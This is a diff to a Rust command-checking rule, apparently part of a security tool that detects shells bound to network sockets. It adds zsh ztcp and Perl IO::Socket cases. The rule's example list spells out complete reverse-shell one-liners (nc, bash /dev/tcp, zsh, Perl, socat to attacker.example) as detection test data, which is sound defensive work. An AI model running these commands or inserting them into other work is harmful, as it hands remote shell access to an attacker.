@@ -55,6 +55,16 @@ fn socket_shell(c: &Command, _: &Scope) -> Option<String> {
     if tcp && (SHELLS.contains(&p) || p == "exec" || p.is_empty()) {
         return Some("a shell's input or output is a network connection (/dev/tcp)".into());
     }
+    // zsh's `ztcp HOST PORT` opens a connection on a descriptor of the shell, as `exec
+    // 3<>/dev/tcp/HOST/PORT` does (`-l` listens, `-a` accepts, `-c` closes).
+    if p == "ztcp"
+        && !c.has_flag(Some('l'), &[])
+        && !c.has_flag(Some('a'), &[])
+        && !c.has_flag(Some('c'), &[])
+        && c.operands().len() >= 2
+    {
+        return Some("`ztcp` opens a network connection on a descriptor of the shell".into());
+    }
     // gawk's network special files: `print |& "/inet/tcp/0/host/port"`.
     if matches!(p, "awk" | "gawk")
         && c.args
@@ -68,6 +78,7 @@ fn socket_shell(c: &Command, _: &Scope) -> Option<String> {
     let code = inline_code(c)?;
     let socket = [
         "socket",
+        "IO::Socket",
         "TCPSocket",
         "fsockopen",
         "net.connect",
@@ -655,6 +666,12 @@ pub static RULES: &[Rule] = &[
             Example::bash("nc -lvp 4444 -e /bin/bash"),
             Example::bash("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
             Example::bash("exec 5<>/dev/tcp/10.0.0.1/4444; cat <&5 | bash >&5"),
+            Example::bash(
+                "zsh -c 'zmodload zsh/net/tcp; ztcp 10.0.0.5 4444; zsh >&$REPLY 2>&$REPLY 0>&$REPLY'",
+            ),
+            Example::bash(
+                "perl -e 'use IO::Socket;$c=IO::Socket::INET->new(\"10.0.0.5:4444\");open(STDIN,\"<&\",$c);open(STDOUT,\">&\",$c);exec \"/bin/sh -i\"'",
+            ),
             Example::bash("socat tcp:attacker.example:4444 exec:/bin/sh,pty,stderr"),
             Example::bash("socat TCP-LISTEN:4444,fork EXEC:bash"),
             Example::bash(
@@ -678,6 +695,10 @@ pub static RULES: &[Rule] = &[
             ),
         ],
         allowed: &[
+            Example::bash("zsh -c 'zmodload zsh/net/tcp; ztcp -l 8080'"),
+            Example::bash(
+                "perl -MIO::Socket -e 'print IO::Socket::INET->new(\"example.com:80\") ? 1 : 0'",
+            ),
             Example::bash(
                 "python3 -c 'import socket, subprocess; print(socket.gethostname()); subprocess.run([\"ls\"])'",
             ),
